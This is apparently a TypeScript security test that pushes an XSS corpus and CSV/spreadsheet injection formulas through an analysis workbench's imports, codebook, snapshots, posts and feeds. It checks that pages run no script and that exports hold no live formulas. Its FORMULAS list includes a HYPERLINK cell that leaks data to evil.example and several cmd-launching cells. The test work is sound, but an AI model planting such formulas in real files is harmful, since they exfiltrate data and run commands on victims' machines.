import { XMLParser, XMLValidator } from 'fast-xml-parser';
import JSZip from 'jszip';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { parseCsvRecords, stringifyCsv } from '../../src/modules/analysis/csv.ts';
import { formatTerms } from '../../src/modules/workbench/workbench.service.ts';
import type { Running } from '../../src/server/index.ts';
import { launchBrowser } from '../support/browser.ts';
import { grant, makeAccount, makeSeries, PASSWORD, unique } from '../support/factories.ts';
import { login, testServer, type Client } from '../support/server.ts';
import { ensureWebBuilt } from '../support/web.ts';
import { xssCorpus } from '../support/xss-corpus.ts';
import {
  check,
  feedHtmlParts,
  newTally,
  renderFeedPart,
  spreadPayloads,
  watched,
} from '../support/xss-render.ts';

/**
 * The XSS corpus through the analysis workbench (security-xss-corpus.test.ts covers the other text
 * fields): codebook theme names and descriptions with their translations, an imported CSV's answers,
 * region and group values and column names (through the console's upload form and the API), the
 * names of codes a QDA project brings back (new themes), sources' names, snapshot titles and edited
 * findings, and posts and a congress session embedding the snapshot. Rendered in chromium: the
 * workbench's pages, the post, the congress page and the feeds. The exports holding those texts are
 * read as a spreadsheet or word processor would: no CSV cell starts with = + - @ (tab, CR), no XLSX
 * cell is a formula, DOCX text is plain runs (no fields, no embedded HTML, no script links).
 */
const N = 60;
/** Cells a spreadsheet would run (OWASP's CSV injection examples, in our own words). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"open me")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '=1+1',
];
let srv: Running;
let browser: Browser;
let base: string;
let payloads: string[];

beforeAll(async () => {
  await ensureWebBuilt();
  srv = await testServer();
  await srv.app.listen({ port: 0, host: '127.0.0.1' });
  base = `http://127.0.0.1:${(srv.app.server.address() as { port: number }).port}`;
  srv.ctx.config.publicUrl = base;
  browser = await launchBrowser();
  payloads = spreadPayloads(xssCorpus(), N);
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await srv?.close();
});

// Words the engine's default codebook knows, so that payload-laden answers are still coded and
// findings (with quotes) come out of them.
const WORDS = [
  'A senior director mentored me and opened doors.',
  'Coaching calls every month with an external coach.',
  'We meet peers from other libraries in a regional network.',
  'Build strong teams that mix new and senior staff.',
  'Prepare leaders for a crisis like the closures.',
  'We need leadership training for new professionals.',
  'Better communication between the board and the members.',
  'Funding and grants to attend courses.',
];
const REGIONS = ['europe', 'asia_oceania', 'latin_america_caribbean', 'sub_saharan_africa'];
const KINDS = ['best_practice', 'recommendation', 'need'];

describe('the XSS corpus through the analysis workbench', () => {
  it('runs nothing on workbench pages, the embedded snapshot and feeds; exports run no formula', async () => {
    const db = srv.ctx.db;
    const p = (i: number, max: number) => payloads[i % N]!.slice(0, max);
    const evil = (i: number) => (i % 5 === 4 ? FORMULAS[i % FORMULAS.length]! : payloads[i % N]!);
    const series = await makeSeries(db);
    const coordAcc = await grant(
      db,
      await makeAccount(db, { name: 'Coordinator' }),
      series.id,
      'coordinator',
    );
    const c: Client = await login(srv, coordAcc.email);
    const ok = async (method: string, url: string, body: unknown, status = [200, 201]) => {
      const res = await c.request(method, url, body);
      expect(status, `${method} ${url}: ${res.body.slice(0, 300)}`).toContain(res.statusCode);
      return res;
    };
    let fields = 0;
    await ok('PATCH', `/api/series/${series.id}`, { languages: ['en', 'fr', 'ar'] });
    const wb = `/console/series/${series.id}/workbench`;

    // The import file: answers with the engine's words and a payload, payloads (or formulas) as
    // region values for every fifth row, and two extra columns whose names and values are payloads.
    const extra = [p(30, 80), p(31, 80)];
    const rows = Array.from({ length: 2 * N }, (_, i) => [
      `r${i}`,
      i % 5 === 2 ? evil(i + 7) : REGIONS[i % REGIONS.length]!,
      KINDS[i % KINDS.length]!,
      `${WORDS[i % WORDS.length]} ${evil(i)}`,
      ['new', 'mid', 'senior'][i % 3]!,
      `2022-0${3 + (i % 4)}-1${i % 10}`,
      evil(i + 11),
      evil(i + 13),
    ]);
    const csv = stringifyCsv(
      ['id', 'region', 'prompt_kind', 'text', 'career_stage', 'submitted_at', ...extra],
      rows,
    );
    fields += 2 + rows.length * 4;

    const tally = newTally();
    const findings: unknown[] = [];
    const note = (r: Awaited<ReturnType<typeof check>>) => {
      const { where, ...counts } = r;
      if (Object.values(counts).some((v) => v)) findings.push({ where, ...counts });
    };
    const staffCtx = await browser.newContext();
    const staff = await watched(await staffCtx.newPage(), tally);
    // An import commits and codes inside the request: slow on a loaded machine.
    staff.setDefaultTimeout(180_000);
    await staff.goto(`${base}/login`);
    await staff.fill('#f-email', coordAcc.email);
    await staff.fill('#f-password', PASSWORD);
    await staff.click('button[type=submit]');
    await staff.waitForLoadState('load');
    const visit = async (page: Page, url: string) => {
      const res = await page.goto(`${base}${url}`, { waitUntil: 'load' });
      expect(res?.status(), url).toBeLessThan(400);
      note(await check(page, tally, url));
    };

    // Upload through the console's form: the preview shows column names and values, then commit.
    await visit(staff, wb);
    await staff.setInputFiles('#f-file', {
      name: 'survey.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(csv),
    });
    await staff.selectOption('#f-kind', 'csv');
    await staff.fill('#f-name', p(40, 200));
    await staff.click('form.import-form button[type=submit]');
    await staff.waitForLoadState('load');
    note(await check(staff, tally, 'import preview'));
    await staff.click('button[value=commit]');
    await staff.waitForLoadState('load');
    await expect.poll(() => staff.textContent('.notice')).toContain('Imported');
    note(await check(staff, tally, 'import done'));
    fields++;
    // And through the API, a second source named with a payload.
    const imported = await ok('POST', `/api/series/${series.id}/workbench/imports`, {
      kind: 'csv',
      name: p(41, 200),
      content: Buffer.from(
        stringifyCsv(
          ['id', 'region', 'prompt_kind', 'text'],
          payloads.map((x, i) => [`a${i}`, REGIONS[i % 4]!, KINDS[i % 3]!, `${WORDS[(i + 3) % 8]} ${x}`]),
        ),
      ).toString('base64'),
    });
    expect(imported.json<{ added: number }>().added).toBeGreaterThan(N / 2);
    fields += 1 + N;

    // Codebook: every default theme renamed and described with payloads (its seed terms kept), new
    // themes, and translations in French and Arabic — through the codebook's own forms.
    const form = async (body: Record<string, string>) => {
      const res = await ok('POST', `${wb}/codebook`, body);
      expect(res.body).not.toContain('role="alert"');
    };
    const themes = await db
      .selectFrom('wb_theme')
      .select(['key', 'terms'])
      .where('series_id', '=', series.id)
      .where('merged_into', 'is', null)
      .execute();
    expect(themes.length).toBeGreaterThan(3);
    for (const [i, th] of themes.entries()) {
      await form({
        action: 'update',
        key: th.key,
        label: i % 4 === 3 ? FORMULAS[i % FORMULAS.length]! : p(i, 120),
        description: p(i + 20, 2000),
        terms: formatTerms(JSON.parse(th.terms) as { text: string; lang?: string }[]),
      });
      await form({
        action: 'translate',
        key: th.key,
        label_fr: p(i + 1, 120),
        description_fr: p(i + 21, 2000),
        label_ar: p(i + 2, 120),
        description_ar: p(i + 22, 2000),
      });
      fields += 6;
    }
    for (let i = 0; i < 10; i++) {
      await form({
        action: 'create',
        key: `x${i}`,
        label: evil(i + 5),
        description: p(i + 25, 2000),
        terms: `en: ${p(i + 35, 200)}`,
        parent: i % 2 ? themes[0]!.key : '',
      });
      fields += 3;
    }

    // A QDA project coded elsewhere comes back with codes named with payloads: the codes used in
    // codings become new themes, named as the other tool named them (the overview lists them).
    const qdaRes = await c.request('GET', `/api/series/${series.id}/workbench/export?format=qdpx`);
    expect(qdaRes.statusCode).toBe(200);
    const qda = await JSZip.loadAsync(qdaRes.rawPayload);
    const attr = (x: string) =>
      x.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
    let codeNo = 0;
    const qde = (await qda.file('project.qde')!.async('string')).replace(
      /(<Code guid="[^"]*" name=")[^"]*"/g,
      (_, start: string) => `${start}${attr(`Q${codeNo} ${evil(codeNo++ + 3).slice(0, 100)}`)}"`,
    );
    qda.file('project.qde', qde);
    await visit(staff, wb);
    await staff.setInputFiles('#qdpx-file', {
      name: 'project.qdpx',
      mimeType: 'application/zip',
      buffer: await qda.generateAsync({ type: 'nodebuffer' }),
    });
    await staff.click('form[action$="/import-qdpx"] button[type=submit]');
    await staff.waitForLoadState('load');
    expect(await staff.textContent('.notice')).toContain('Q0 ');
    note(await check(staff, tally, 'qdpx import done'));
    fields += codeNo;

    // Review: a few decisions through the API, so findings have quotes a person coded.
    const queue = (await ok('GET', `/api/series/${series.id}/workbench/review?n=8`, undefined)).json<{
      items: { id: string; themeKey: string }[];
    }>();
    for (const [i, item] of queue.items.entries())
      await ok('POST', `/api/series/${series.id}/workbench/items/${item.id}/codings`, {
        themeKey: item.themeKey,
        decision: i % 3 ? 'accept' : 'reject',
      });

    // Findings edited with payloads, saved as snapshots with payload titles.
    const found = (await ok('GET', `/api/series/${series.id}/workbench/findings`, undefined)).json<{
      findings: unknown[];
    }>();
    expect(found.findings.length).toBeGreaterThan(0);
    const snapshots: string[] = [];
    for (let s = 0; s < 3; s++) {
      const edits = Object.fromEntries(found.findings.map((_, i) => [String(i), evil(i + 10 * s)]));
      const res = await ok('POST', `/api/series/${series.id}/workbench/snapshots`, {
        title: evil(s + 45),
        edits,
      });
      snapshots.push(res.json<{ id: string }>().id);
      fields += 1 + found.findings.length;
    }

    // Posts (English and French) and a congress session embedding the snapshot.
    const posts: string[] = [];
    for (const [i, language] of ['en', 'fr'].entries()) {
      const res = await ok('POST', `/api/series/${series.id}/posts`, {
        slug: unique(`wb${i}`)
          .toLowerCase()
          .replace(/[^a-z0-9]+/g, '-'),
        title: p(i + 50, 200),
        summary: p(i + 52, 500),
        bodyMd: `Findings ${i}\n\n${p(i + 54, 2000)}`,
        language,
        status: 'published',
        snapshotId: snapshots[0],
      });
      posts.push(res.json<{ slug: string }>().slug);
      fields += 3;
    }
    const congressSlug = unique('cg')
      .toLowerCase()
      .replace(/[^a-z0-9]+/g, '-');
    await ok('POST', `/api/series/${series.id}/congress`, {
      slug: congressSlug,
      title: p(56, 300),
      eventName: p(57, 300),
      startsAt: '2026-08-20T10:00',
      endsAt: '2026-08-20T11:00',
      timeZone: 'UTC',
      snapshotId: snapshots[1],
    });
    fields += 2;

    // Render: the workbench's pages (in three languages), quotes behind heatmap cells, snapshots.
    const pages = [
      wb,
      `${wb}/review`,
      `${wb}/codebook`,
      ...themes.slice(0, 4).map((th) => `${wb}/codebook?translate=${encodeURIComponent(th.key)}`),
      `${wb}/compare`,
      `${wb}/findings`,
      ...snapshots.map((id) => `${wb}/snapshots/${id}`),
      `/console/series/${series.id}/posts`,
      `/console/series/${series.id}/congress/new`,
    ];
    let rendered = 0;
    for (const lang of ['en', 'fr', 'ar'])
      for (const url of pages) {
        await visit(staff, `${url}${url.includes('?') ? '&' : '?'}lang=${lang}`);
        rendered++;
      }
    // The payloads are there, as text: the codebook shows the names as typed.
    await staff.goto(`${base}${wb}/codebook`, { waitUntil: 'load' });
    expect(await staff.textContent('main')).toContain(p(0, 120).trim());
    await staff.goto(`${base}${wb}/compare`, { waitUntil: 'load' });
    const quoteLinks = await staff.$$eval('table.heat a', (as) => as.map((a) => a.getAttribute('href')!));
    expect(quoteLinks.length).toBeGreaterThan(0);
    for (const href of quoteLinks.filter((_, i) => i % Math.ceil(quoteLinks.length / 12) === 0)) {
      await visit(staff, href);
      rendered++;
    }

    // Public: the posts embedding the snapshot, the congress page, the series page, as a reader.
    const reader = await watched(await (await browser.newContext()).newPage(), tally);
    const publicPages = [
      `/series/${series.slug}`,
      `/series/${series.slug}/posts`,
      ...posts.map((slug) => `/series/${series.slug}/posts/${slug}`),
      ...posts.map((slug) => `/series/${series.slug}/posts/${slug}?lang=ar`),
      `/series/${series.slug}/congress/${congressSlug}`,
      `/series/${series.slug}/congress/${congressSlug}?lang=fr`,
    ];
    for (const url of publicPages) {
      await visit(reader, url);
      rendered++;
    }
    expect(await reader.content()).toContain('<figure class="chart">');
    // The embedded snapshot carries the edited findings (a payload, or a formula) as text.
    await reader.goto(`${base}/series/${series.slug}/posts/${posts[0]}`, { waitUntil: 'load' });
    expect(await reader.textContent('section.findings')).toContain(evil(0).trim());

    // Feeds: each HTML-bearing element rendered as HTML, as a feed reader does.
    const offline = await browser.newContext({ offline: true });
    const feedPage = await watched(await offline.newPage(), tally);
    let feedParts = 0;
    for (const url of [`/series/${series.slug}/feed.rss`, `/series/${series.slug}/feed.atom`]) {
      const res = await srv.app.inject({ url });
      expect(res.statusCode).toBe(200);
      for (const [i, part] of (await feedHtmlParts(feedPage, res.body)).entries()) {
        await renderFeedPart(feedPage, part);
        note(await check(feedPage, tally, `${url} part ${i}`));
        feedParts++;
      }
    }

    // Exports, as the files a spreadsheet or a word processor opens.
    const exported = async (format: string) => {
      const res = await c.request('GET', `/api/series/${series.id}/workbench/export?format=${format}`);
      expect(res.statusCode, `${format}: ${res.body.slice(0, 200)}`).toBe(200);
      return res.rawPayload;
    };
    const formula = /^[=+\-@\t\r]/;
    const cells = { csv: 0, xlsx: 0, docxRuns: 0 };
    const risky: string[] = [];
    // CSV: no cell a spreadsheet would run.
    const csvOut = (await exported('csv')).toString('utf8');
    for (const r of parseCsvRecords(csvOut))
      for (const cell of r.cells) {
        cells.csv++;
        if (formula.test(cell)) risky.push(`csv: ${cell.slice(0, 60)}`);
      }
    expect(csvOut).toContain("'=HYPERLINK(");
    // XLSX: text exactly as written, in string cells; no formula anywhere in the workbook.
    const xlsx = await exported('xlsx');
    const zip = await JSZip.loadAsync(xlsx);
    for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n))) {
      const xml = await zip.file(name)!.async('string');
      if (/<f[\s>]/.test(xml)) risky.push(`xlsx: formula element in ${name}`);
    }
    const book = XLSX.read(xlsx, { cellFormula: true });
    let asWritten = 0;
    for (const sheet of Object.values(book.Sheets))
      for (const [ref, cell] of Object.entries(sheet)) {
        if (ref.startsWith('!')) continue;
        const cl = cell as XLSX.CellObject;
        cells.xlsx++;
        if (cl.f) risky.push(`xlsx formula ${ref}: ${cl.f}`);
        if (typeof cl.v === 'string' && formula.test(cl.v)) {
          if (cl.t !== 's') risky.push(`xlsx ${ref} (${cl.t}): ${cl.v.slice(0, 60)}`);
          asWritten++;
        }
      }
    expect(asWritten).toBeGreaterThan(0);
    // DOCX: every part well-formed; text in runs, no fields, no embedded HTML or external script links.
    const docx = await JSZip.loadAsync(await exported('docx'));
    let docText = '';
    for (const name of Object.keys(docx.files).filter((n) => /\.(xml|rels)$/.test(n))) {
      const xml = await docx.file(name)!.async('string');
      expect(XMLValidator.validate(xml), name).toBe(true);
      if (/<w:(fldSimple|instrText|altChunk)\b/.test(xml)) risky.push(`docx field or altChunk in ${name}`);
      for (const m of xml.matchAll(/Target="([^"]*)"[^>]*TargetMode="External"/g))
        if (!/^(https?|mailto):/i.test(m[1]!)) risky.push(`docx external target ${m[1]}`);
      if (name === 'word/document.xml')
        for (const m of xml.matchAll(/<w:t(?:\s[^>]*)?>([^<]*)<\/w:t>/g)) {
          cells.docxRuns++;
          docText += new XMLParser({ processEntities: true }).parse(`<t>${m[1]}</t>`).t ?? '';
        }
    }
    // The payload-named themes come out as the characters people typed.
    expect(docText).toContain('<');
    // REFI-QDA files are well-formed XML with the names as typed.
    const qdc = (await exported('qdc')).toString('utf8');
    expect(XMLValidator.validate(qdc)).toBe(true);

    await staff.waitForTimeout(300);
    console.log(
      JSON.stringify({
        xssWorkbench: {
          payloads: N,
          formulas: FORMULAS.length,
          fieldsFilled: fields,
          pages: rendered,
          feedParts,
          exportCells: cells,
          formulaCells: risky.length,
          ...tally,
        },
      }),
    );
    expect(risky).toEqual([]);
    expect(findings).toEqual([]);
    expect(tally.dialogs).toBe(0);
    await staffCtx.close();
    await offline.close();
  }, 600_000);
});
